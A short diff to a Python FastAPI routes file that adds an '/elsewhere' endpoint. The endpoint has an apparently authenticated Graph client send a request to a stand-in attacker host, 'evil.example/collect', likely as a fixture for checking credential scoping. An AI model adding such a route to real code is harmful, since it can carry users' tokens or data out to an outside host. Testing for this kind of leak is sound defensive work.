@@ -128,6 +128,10 @@ def routes(app: FastAPI) -> None:
         answer = await client.get("/me")
         return {"name": answer.json()["displayName"], "source": client.token_source}
 
+    @app.get("/elsewhere")
+    async def elsewhere(client: Graph) -> dict[str, int]:
+        return {"status": (await client.get("https://evil.example/collect")).status_code}
+
     @app.post("/hook")
     async def hook() -> dict[str, str]:
         return {"heard": "yes"}
